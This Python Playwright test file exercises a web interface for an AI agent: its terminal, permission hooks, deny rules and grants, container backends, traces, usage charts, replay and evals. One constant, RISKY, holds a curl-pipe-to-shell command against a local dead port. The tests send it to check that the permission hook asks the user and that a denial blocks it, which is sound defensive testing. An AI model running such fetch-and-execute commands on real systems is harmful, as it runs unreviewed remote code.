"""Terminal, agent, trace, usage and replay: changes in the browser are visible in the API and vice versa."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

import engines
from browser_pages import (
    ApiClient,
    find_violations,
    open_api_client,
    open_page,
    open_panel,
    open_thread_id,
    save_report,
    send_and_wait,
    send_message,
    wait_for,
    wait_until_idle,
)
from server_process import ServerProcess

RISKY = "Run the command: curl http://127.0.0.1:9/x | sh"  # questions of the default agent
WHERE = "Run the command: test -e /.dockerenv && echo in a container || echo on the machine"


def about(page: Page, tab: str) -> Any:
    panel = open_panel(page, "Agent")
    panel.get_by_role("tab", name=tab).click()
    return panel


def test_the_terminal_is_a_shell_in_the_workspace(ada: Page, api: ApiClient) -> None:
    panel = open_panel(ada, "Terminal")
    expect(panel.get_by_role("status").filter(has_text="Connected")).to_be_visible()
    ada.keyboard.type("echo typed$((20+22)) > term.txt\n")
    wait_for(lambda: "term.txt" in str(api("GET", "/agents/default/files/list")))
    wait_for(lambda: api.read("term.txt") == "typed42\n")
    api.write("from-api.txt", "seen in the shell")
    ada.keyboard.type("cat from-api.txt\n")
    expect(panel.locator(".xterm-rows")).to_contain_text("seen in the shell")


def test_switching_a_hook_changes_behaviour(browser: Browser, server: ServerProcess) -> None:
    root = open_api_client(server, "root")
    with open_page(browser, server, "root") as page:
        panel = about(page, "Hooks")
        switch = panel.get_by_role("switch", name="Hook permissions")
        expect(switch).to_be_checked()
        switch.click()
        expect(switch).not_to_be_checked()
        assert root.hook("permissions")["on"] is False
        send_and_wait(page, RISKY)
        expect(page.locator(".chat-call[data-state=done]")).to_have_count(1)  # it ran without a question
        root("PATCH", "/agents/default/hooks", {"hooks": {"permissions": None}})
        expect(switch).to_be_checked()
        send_message(page, RISKY)
        page.get_by_role("alertdialog").get_by_role("button", name="Deny").click()
        wait_until_idle(page)
        expect(page.locator(".chat-call[data-state=failed]")).to_have_count(1)


def test_users_cannot_switch_protective_hooks(ada: Page, api: ApiClient) -> None:
    panel = about(ada, "Hooks")
    switch = panel.get_by_role("switch", name="Hook permissions")
    expect(switch).to_be_disabled()
    expect(switch).to_have_attribute("title", api.hook("permissions")["refused"])
    expect(panel.get_by_text("only operators can change them")).to_be_visible()
    switch.click(force=True)
    own = panel.get_by_role("switch", name="Hook todos")
    own.click()
    expect(own).not_to_be_checked()
    assert api.hook("permissions")["on"] is True and api.hook("todos")["on"] is False
    own.click()
    expect(own).to_be_checked()


def test_a_hook_that_is_switched_takes_its_tools_along(browser: Browser, server: ServerProcess) -> None:
    root = open_api_client(server, "root")
    with open_page(browser, server, "root") as page:
        panel = about(page, "Tools and skills")
        calculate = panel.get_by_role("region", name="Tools").get_by_text("calculate", exact=True)
        expect(calculate).to_be_visible()
        root("PATCH", "/agents/default/hooks", {"hooks": {"builtins": False}})
        expect(calculate).to_have_count(0)
        panel.get_by_role("tab", name="Hooks").click()
        panel.get_by_role("button", name="Reset builtins").click()
        wait_for(lambda: root.hook("builtins")["on"])


def test_a_rule_that_is_added_blocks_the_next_call(browser: Browser, server: ServerProcess) -> None:
    olga = open_api_client(server, "olga")  # it takes an operator
    with open_page(browser, server, "olga") as page:
        send_and_wait(page, "Run the command: echo forbidden-words")
        rules = about(page, "Permissions").get_by_role("region", name="Rules")
        rules.get_by_label("Rule type").select_option("deny")
        rules.get_by_label("Rule", exact=True).fill("Bash(echo forbidden*)")
        rules.get_by_role("button", name="Add").click()
        expect(rules.get_by_role("listitem")).to_have_text(re.compile(r"deny.*Bash\(echo forbidden\*\)"))
        expect(rules.get_by_label("Rule", exact=True)).to_have_value("")
        assert _own_rules(olga) == [("deny", "Bash(echo forbidden*)")]
        assert any(rule["policy"] for rule in olga("GET", "/agents/default/permissions")["rules"]), (
            "the ready set stays"
        )
        send_and_wait(page, "Run the command: echo forbidden-words")
        results = [m["content"] for m in olga.thread(open_thread_id(page))["messages"] if m["role"] == "tool"]
        assert "forbidden-words" in results[0] and "exit" not in results[-1], results
        olga("PATCH", "/agents/default/hooks", {"hooks": {"permissions": {"deny": [], "ask": ["Bash(echo asked*)"]}}})
        expect(rules.get_by_role("listitem")).to_have_text(re.compile("ask.*echo asked"))
        rules.get_by_role("button", name="Remove ask").click()
        wait_for(lambda: _own_rules(olga) == [])


def _own_rules(api: ApiClient) -> list[tuple[str, str]]:
    rules = api("GET", "/agents/default/permissions")["rules"]
    return [(rule["type"], rule["rule"]) for rule in rules if not rule["policy"]]


def test_a_refused_rule_stays_in_the_form(browser: Browser, server: ServerProcess) -> None:
    with open_page(browser, server, "olga", refused=400) as page:
        panel = about(page, "Permissions")
        panel.get_by_label("Rule", exact=True).fill("Bash(echo")
        panel.get_by_role("button", name="Add").click()
        expect(page.locator(".shell-notices")).to_contain_text("Bash(echo")
        expect(panel.get_by_label("Rule", exact=True)).to_have_value("Bash(echo")
        assert _own_rules(open_api_client(server, "olga")) == []


def test_only_permitted_users_change_the_mode(browser: Browser, server: ServerProcess, ada: Page) -> None:
    expect(about(ada, "Permissions").get_by_role("combobox", name="Mode")).to_be_disabled()
    olga = open_api_client(server, "olga")
    with open_page(browser, server, "olga") as page:
        mode = about(page, "Permissions").get_by_role("combobox", name="Mode")
        mode.select_option("Plan")
        wait_for(lambda: olga("GET", "/agents/default/permissions")["mode"] == "plan")
        olga("PATCH", "/agents/default/hooks", {"hooks": {"permissions": None}})
        expect(mode).to_have_value("bypassPermissions")


def test_a_grant_is_given_and_revoked(browser: Browser, server: ServerProcess) -> None:
    olga = open_api_client(server, "olga")
    olga("PATCH", "/agents/default/hooks", {"hooks": {"permissions": {"mode": "default"}}})
    with open_page(browser, server, "olga") as page:
        panel = about(page, "Permissions")
        grants = panel.get_by_role("region", name="Grants").get_by_role("listitem")
        _grant(page, "Run the command: echo granted")
        expect(grants).to_have_text(re.compile("execute.*echo granted"))
        assert [one["args"]["command"] for one in _grants(olga)] == ["echo granted"]
        send_and_wait(page, "Run the command: echo granted")  # and without a question
        panel.get_by_role("button", name="Revoke execute").click()
        expect(grants).to_have_count(0)
        assert _grants(olga) == []
        _grant(page, "Run the command: echo granted")  # it asks again
        (grant,) = _grants(olga)
        olga("DELETE", f"/agents/default/permissions/grants/{grant['id']}")
        expect(grants).to_have_count(0)
    olga("PATCH", "/agents/default/hooks", {"hooks": {"permissions": None}})


def _grant(page: Page, words: str) -> None:
    send_message(page, words)
    page.get_by_role("alertdialog").get_by_role("button", name="Always allow").click()
    wait_until_idle(page)


def _grants(api: ApiClient) -> list[Any]:
    return list(api("GET", "/agents/default/permissions")["grants"])


def test_a_skill_is_switched(ada: Page, api: ApiClient) -> None:
    panel = about(ada, "Tools and skills")
    switch = panel.get_by_role("switch", name="Skill slides")
    expect(switch).to_be_checked()
    switch.click()
    wait_for(lambda: not _skill(api, "slides")["enabled"])
    api("PATCH", "/agents/default/skills", {"enable": ["slides"]})
    expect(switch).to_be_checked()


def _skill(api: ApiClient, name: str) -> Any:
    return next(one for one in api("GET", "/agents/default/skills")["skills"] if one["name"] == name)


def test_the_onion_is_drawn_as_the_server_reports_it(ada: Page, api: ApiClient) -> None:
    panel = about(ada, "Onion")
    for operation in api("GET", "/agents/default/onion")["operations"]:
        name = operation["operation"].replace("_", " ").capitalize()
        panel.get_by_role("group", name="Operation").get_by_role("button", name=name, exact=True).click()
        rings = panel.locator("svg g[data-position] circle")
        expect(rings).to_have_count(len(operation["rings"]) + len(operation["guards"]))
    told = panel.locator("figcaption")
    expect(told).to_contain_text("hooks around every tool use")
    panel.locator("svg circle[aria-label^='permissions.check']").focus()
    expect(told).to_have_text(re.compile(r"permissions\.check \(guard.*fails closed\)$"))


def test_a_ring_shows_its_decisions_in_the_shown_run(ada: Page) -> None:
    send_and_wait(ada, "Run the command: echo rings")
    panel = about(ada, "Onion")
    ring = panel.locator("svg g[data-position]", has=ada.locator("circle[aria-label^='permissions.check']"))
    told = panel.locator("figcaption")
    _point_at(ada, ring)
    expect(told).to_contain_text("passed once")
    expect(ring).not_to_have_class(re.compile("onion-acted"))
    send_message(ada, RISKY)
    ada.get_by_role("alertdialog").get_by_role("button", name="Deny").click()
    wait_until_idle(ada)
    expect(ring).to_have_class(re.compile("onion-acted"))
    _point_at(ada, ring)
    expect(told).to_contain_text("asked the user once")


def _point_at(page: Page, ring: Any) -> None:
    """Hover the band of a ring on its left; its middle contains inner rings."""
    page.mouse.move(0, 0)
    box = ring.locator("circle").bounding_box()
    page.mouse.move(box["x"] + 3, box["y"] + box["height"] / 2)


def test_the_backend_is_stopped_and_started(ada: Page, api: ApiClient) -> None:
    panel = about(ada, "Overview")
    place = panel.get_by_role("region", name="Backend")
    expect(place).to_contain_text(api("GET", "/agents/default/backend")["workdir"])
    place.get_by_role("button", name=re.compile("Start|Restart")).click()
    expect(place.get_by_role("status")).to_have_text("launched")
    assert api("GET", "/agents/default/backend")["status"] == "launched"
    api("POST", "/agents/default/container", {"action": "stop"})
    expect(place.get_by_role("status")).to_have_text("idle")


def test_the_agent_moves_into_a_container_and_back(browser: Browser, server: ServerProcess) -> None:
    engine, root = engines.find_engine(), open_api_client(server, "root")
    boxed = {"type": "docker", "image": engine.image("python")}
    root("POST", "/agents/", {"agent_id": "boxed", "model": "demo", "backend": boxed})
    root("PATCH", "/agents/boxed/backend", {"mode": "local"})
    with open_page(browser, server, "root", agent="boxed") as page:
        place = about(page, "Overview").get_by_role("region", name="Backend")
        status = place.get_by_role("status")
        place.get_by_role("button", name="Local Docker").click()
        wait_for(lambda: root("GET", "/agents/boxed/backend")["mode"] == "remote")
        send_and_wait(page, WHERE)
        expect(page.locator("article.chat-reply").last).to_contain_text("in a container")
        expect(status).to_have_text("launched")
        assert len(_containers(engine, root)) == 1
        place.get_by_role("button", name="Stop").click()
        expect(status).to_have_text("idle")
        assert _containers(engine, root) == []
        place.get_by_role("button", name="Start").click()
        expect(status).to_have_text("launched")
        assert len(_containers(engine, root)) == 1
        place.get_by_role("button", name="This machine").click()
        expect(place.get_by_role("button", name="This machine")).to_have_attribute("aria-pressed", "true")
        send_and_wait(page, WHERE)
        expect(page.locator("article.chat-reply").last).to_contain_text("on the machine")
        root("PATCH", "/agents/boxed/backend", {"mode": "remote"})
        expect(place.get_by_role("button", name="Local Docker")).to_have_attribute("aria-pressed", "true")
        root("DELETE", "/agents/boxed")


def test_the_agent_moves_to_a_remote_engine(browser: Browser, server: ServerProcess) -> None:
    engine, root = engines.find_engine(), open_api_client(server, "root")
    far = {"type": "docker", "image": engine.image("python")}
    root("POST", "/agents/", {"agent_id": "far", "model": "demo", "backend": far})
    with open_page(browser, server, "root", agent="far") as page, engines.relay_port(engine.path) as port:
        place = about(page, "Overview").get_by_role("region", name="Backend")
        place.get_by_role("button", name="Remote Docker").click()
        place.get_by_label("Engine address").fill(f"tcp://127.0.0.1:{port}")
        place.get_by_role("button", name="Connect").click()
        expect(place.get_by_role("button", name="Remote Docker")).to_have_attribute("aria-pressed", "true")
        expect(place).to_contain_text(f"tcp://127.0.0.1:{port}")
        assert root("GET", "/agents/far/backend")["sandbox_url"] == f"tcp://127.0.0.1:{port}"
        send_and_wait(page, WHERE)
        expect(page.locator("article.chat-reply").last).to_contain_text("in a container")
        root("PATCH", "/agents/far/backend", {"mode": "remote"})
        expect(place.get_by_role("button", name="Local Docker")).to_have_attribute("aria-pressed", "true")
        root("DELETE", "/agents/far")


def test_a_start_failure_shows_its_reason(browser: Browser, server: ServerProcess) -> None:
    root = open_api_client(server, "root")
    with open_page(browser, server, "root", refused=(409, 502, 503)) as page:
        place = about(page, "Overview").get_by_role("region", name="Backend")
        place.get_by_role("button", name="Remote Docker").click()
        place.get_by_label("Engine address").fill("tcp://127.0.0.1:9")
        place.get_by_role("button", name="Connect").click()
        expect(place).to_contain_text("tcp://127.0.0.1:9")
        place.get_by_role("button", name="Start").click()
        expect(place.get_by_role("status")).to_have_text("error")
        expect(place.locator(".panels-facts")).to_contain_text("127.0.0.1:9")
        place.get_by_role("button", name="This machine").click()
        wait_for(lambda: root("GET", "/agents/default/backend")["mode"] == "local")


def _containers(engine: Any, api: ApiClient) -> list[str]:
    owner = api("GET", "/auth/me")["id"]
    return [found["Id"] for found in engine.containers(f"wick.owner={owner}") if found["State"] == "running"]


def test_the_limits_of_a_run_are_shown(browser: Browser, server: ServerProcess) -> None:
    olga = open_api_client(server, "olga")
    with open_page(browser, server, "olga") as page:
        part = about(page, "Overview").get_by_role("region", name="Limits and budgets")
        expect(part.get_by_role("meter", name="Steps")).to_be_visible()
        said = {"limits": {"steps": 4, "tool_calls": 2, "tokens": 9_000}, "budget": {"tokens": 30_000}}
        olga("PATCH", "/agents/default/hooks", {"hooks": said})
        expect(part.get_by_role("meter", name="Tool calls")).to_have_attribute("aria-valuetext", "0 of 2")
        send_and_wait(page, "Run the command: echo counted")
        expect(part.get_by_role("meter", name="Steps")).to_have_attribute("aria-valuetext", "2 of 4")
        expect(part.get_by_role("meter", name="Tool calls")).to_have_attribute("aria-valuetext", "1 of 2")
        (budget,) = olga("GET", "/agents/default/limits")["budgets"]
        assert budget["spent_tokens"] > 0
        gauge = part.get_by_role("meter", name="Budget in tokens")
        expect(gauge).to_have_attribute("aria-valuenow", str(budget["spent_tokens"]))
        expect(part.get_by_role("meter", name="Tokens", exact=True)).to_have_attribute(
            "aria-valuenow", str(budget["spent_tokens"])
        )  # the first run has spent the whole budget
        olga("PATCH", "/agents/default/hooks", {"hooks": {"limits": None, "budget": None}})
        expect(gauge).to_have_count(0)


def test_the_trace_of_a_run_is_a_waterfall(ada: Page, api: ApiClient) -> None:
    send_and_wait(ada, "Run the command: echo first")
    send_and_wait(ada, "Run the command: echo second")
    first, second = [run["run_id"] for run in api("GET", f"/threads/{open_thread_id(ada)}/runs")["runs"]]
    chosen = ada.get_by_role("complementary", name="Trace").get_by_label("Run")
    for message, run in (
        (ada.locator("article.chat-said").first, first),
        (ada.locator("article.chat-said").last, second),
        (ada.locator("article.chat-reply").first, first),
        (ada.locator("article.chat-reply").last, second),
    ):
        message.hover()
        message.get_by_role("button", name="Trace", exact=True).click()
        expect(chosen).to_have_value(run)
    spans = open_panel(ada, "Trace").get_by_role("treeitem")
    kept = api("GET", f"/runs/{second}/trace")["spans"]
    expect(spans).to_have_count(_spans(kept))
    expect(spans.filter(has_text="execute")).to_contain_text("ms")
    expect(spans.filter(has_text="offline demo model").first).to_contain_text("tokens")


def _spans(found: list[Any]) -> int:
    return sum(1 + _spans(span["children"]) for span in found)


def test_a_trace_is_filtered_and_inspected(ada: Page) -> None:
    send_and_wait(ada, "Run the command: echo looked-for")
    panel = open_panel(ada, "Trace")
    spans = panel.get_by_role("treeitem")
    expect(spans.filter(has_text="execute")).to_be_visible()
    panel.get_by_label("Filter spans").fill("looked-for")
    expect(spans).to_have_text([re.compile("^wick"), re.compile("^step 1"), re.compile("^execute")])
    panel.get_by_role("group", name="Show").get_by_role("button", name="Hooks").click()
    panel.get_by_label("Filter spans").fill("permissions.check")
    expect(spans.last).to_contain_text("permissions.check: pass")
    spans.last.click()
    expect(panel.get_by_role("table", name="Verdicts of hooks")).to_contain_text("permissions.check")
    panel.get_by_label("Filter spans").fill("")
    end = panel.locator(".trace-axis small").last
    whole = end.text_content()
    panel.get_by_role("tree").focus()
    ada.keyboard.press("Home")
    ada.keyboard.press("+")
    expect(end).not_to_have_text(whole or "")
    ada.keyboard.press("Enter")  # the run is all there is
    expect(end).to_have_text(whole or "")


def test_usage_matches_the_server_counts(ada: Page, api: ApiClient) -> None:
    api.ask("default", "What can you do?")
    panel = open_panel(ada, "Usage")
    runs = api("GET", "/usage")["total"]["runs"]
    total = panel.locator("dl.usage-totals div").filter(has_text="Runs").locator("dd")
    expect(total).to_have_text(str(runs))
    send_and_wait(ada, "What can you do?")
    expect(total).to_have_text(str(runs + 1))
    api.ask("default", "What can you do?")  # elsewhere
    expect(total).to_have_text(str(runs + 2))


def test_usage_is_split_by_agent_and_by_model(ada: Page, api: ApiClient) -> None:
    api.ask("default", "What can you do?")
    api.ask("echo", "say this")
    panel = open_panel(ada, "Usage")
    measures = panel.get_by_role("group", name="Measure")
    measures.get_by_role("button", name="Runs").click()
    chart, parts = panel.locator("figure[data-chart]"), panel.get_by_role("group", name="Split")
    rows = api("GET", "/usage")["rows"]
    for split in ("model", "agent"):
        parts.get_by_role("button", name=f"by {split}").click()
        expect(chart.get_by_role("img")).to_have_attribute("aria-label", re.compile(f"runs by day and {split}"))
        sums: dict[str, int] = {}
        for row in rows:
            sums[row[split]] = sums.get(row[split], 0) + row["runs"]
        assert len(sums) >= 2
        assert {*chart.locator(".chart-legend li").all_text_contents()} == {*sums}
        shares = panel.get_by_role("region", name=f"By {split}").get_by_role("listitem")
        assert {*shares.all_text_contents()} == {f"{name}{amount}" for name, amount in sums.items()}
    panel.get_by_label("Agent", exact=True).select_option("echo")
    only = str(sum(row["runs"] for row in rows if row["agent"] == "echo"))
    expect(panel.locator("dl.usage-totals div").filter(has_text="Runs").locator("dd")).to_have_text(only)


def test_replay_shows_calls_that_a_rule_would_block(browser: Browser, server: ServerProcess) -> None:
    olga = open_api_client(server, "olga")
    with open_page(browser, server, "olga") as page:
        send_and_wait(page, "Run the command: echo replayed")
        panel = open_panel(page, "Replay")
        panel.get_by_label("Threads").select_option("this")
        panel.get_by_label("Deny").fill("Bash(echo replayed*)")
        panel.get_by_role("button", name="Replay", exact=True).click()
        changed = panel.locator("li.replay-changed")
        expect(changed).to_have_count(1)
        expect(changed).to_contain_text("would be blocked")
        assert _own_rules(olga) == [], "nothing was changed"
        panel.get_by_role("button", name="Apply these rules to the agent").click()
        wait_for(lambda: _own_rules(olga) == [("deny", "Bash(echo replayed*)")])
        olga("PATCH", "/agents/default/hooks", {"hooks": {"permissions": None}})


def test_replay_shows_calls_that_other_guards_would_block(ada: Page, api: ApiClient) -> None:
    api.ask("default", "Run the command: echo elsewhere", thread_id="replayed-elsewhere")  # seen, though not open
    panel = open_panel(ada, "Replay")
    changed = panel.locator("li.replay-changed").filter(has_text="echo elsewhere")
    for guards, verdict in (("ask", "would need approval"), ("plan", "would be blocked")):
        panel.get_by_label("Guards").select_option(guards)
        panel.get_by_role("button", name="Replay", exact=True).click()
        expect(changed.get_by_text(verdict)).to_be_visible()
    panel.get_by_label("Guards").select_option("now")
    panel.get_by_role("button", name="Replay", exact=True).click()
    expect(panel.get_by_role("heading", name="No changes")).to_be_visible()


def test_an_admin_sees_the_servers_of_the_cluster(browser: Browser, server: ServerProcess, ada: Page) -> None:
    with open_page(browser, server, "root") as page:
        page.keyboard.press("Alt+0")
        panel = page.get_by_role("complementary", name="Cluster", exact=True)
        expect(panel.get_by_role("row")).to_have_count(2)
        expect(panel.get_by_role("row").nth(1)).to_contain_text("local (this)")
        expect(panel.get_by_text("connected", exact=True)).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        violations = find_violations(page)
        page.emulate_media(color_scheme="dark")
        assert violations + find_violations(page) == []
        page.set_viewport_size({"width": 390, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        table = panel.get_by_role("region", name="Table of servers")  # its rows are stacked: no column is out of sight
        assert table.evaluate("box => box.scrollWidth <= box.clientWidth")
        assert panel.get_by_role("row").count() == 2
    panels = ada.get_by_role("navigation", name="Panels")
    expect(panels.get_by_role("button", name="Evals")).to_be_visible()
    expect(panels.get_by_role("button", name="Cluster")).to_have_count(0)


def test_an_eval_report_shows_variants_and_what_was_done(browser: Browser, server: ServerProcess) -> None:
    olga = open_api_client(server, "olga")
    olga.ask("echo", "The conversation of a case", thread_id="eval-thread")
    save_report(server, thread="eval-thread")
    with open_page(browser, server, "olga") as page:
        panel = open_panel(page, "Evals")
        expect(panel.get_by_label("Report")).to_have_value("nightly")
        assert [one["name"] for one in olga("GET", "/evals")["reports"]] == ["nightly"]
        table = panel.get_by_role("region", name="Table of cases")
        expect(table.get_by_role("columnheader")).to_have_text(["case", "guarded", "unguarded"])
        expect(table.get_by_text("regressed")).to_have_count(1)
        panel.get_by_role("button", name="Failed", exact=True).click()
        expect(table.get_by_role("row")).to_have_count(2)
        table.get_by_role("button", name="large-refund").focus()
        page.keyboard.press("Enter")
        case = panel.get_by_role("region", name="Case large-refund")
        expect(case.get_by_role("heading", level=3)).to_be_focused()
        expect(case).to_contain_text("blocked by no_large_sums: more than 100 needs a person")
        expect(case).to_contain_text("refund was not blocked")
        case.get_by_text("Arguments and result").first.click()
        expect(case.get_by_label("Arguments").first).to_contain_text("2000")
        case.get_by_role("button", name="Open the thread").click()
        expect(page.locator("article.chat-said")).to_contain_text("The conversation of a case")


@pytest.mark.parametrize(("panel", "asked"), [("Agent", "/agents/default"), ("Usage", "/usage?*")])
def test_a_panel_that_fails_to_load_shows_it_and_retries(
    browser: Browser, server: ServerProcess, panel: str, asked: str
) -> None:
    with open_page(browser, server, refused=503) as page:
        said = json.dumps({"error": {"code": "unavailable", "message": "the server is being set up"}})
        page.route(f"**{asked}", lambda route: route.fulfill(status=503, body=said, content_type="application/json"))
        side = open_panel(page, panel)
        expect(side.get_by_role("alert")).to_contain_text("The server is being set up.")
        page.unroute(f"**{asked}")
        side.get_by_role("button", name="Try again").click()
        expect(side.get_by_role("alert")).to_have_count(0)
        expect(side.get_by_role("heading", level=3).or_(side.get_by_label("Period")).first).to_be_visible()


def test_a_panel_whose_files_fail_to_load_once_is_shown_with_its_style(browser: Browser, server: ServerProcess) -> None:
    failed: list[str] = []

    def fail_once(route: Route) -> None:
        if route.request.url in failed:
            return route.fallback()
        failed.append(route.request.url)
        route.abort()

    with open_page(browser, server, cut=True) as page:
        page.route("**/assets/Usage-*", fail_once)
        side = open_panel(page, "Usage")
        expect(side.get_by_label("Period")).to_be_visible()
        page.wait_for_function("[...document.styleSheets].some((sheet) => sheet.href?.includes('/Usage-'))")
    assert {url.rpartition(".")[2] for url in failed} == {"css", "js"}


EMPTY = {
    "Canvas": "Files that the agent writes open here",
    "Files": "The workspace is empty. Drop files here",
    "Terminal": "Connected",
    "Agent": "The usage of the last run is shown after a run of this thread.",
    "Trace": "Open or start a thread",
    "Usage": "No usage in this period.",
    "Approvals": "No pending questions.",
    "Replay": "No tool is run, no question is asked",
    "Evals": "Only operators can see them.",
}


@pytest.mark.parametrize(("panel", "words"), EMPTY.items(), ids=EMPTY)
def test_an_empty_panel_explains_the_next_step(browser: Browser, server: ServerProcess, panel: str, words: str) -> None:
    with open_page(browser, server, "bob") as page:
        expect(open_panel(page, panel)).to_contain_text(words)
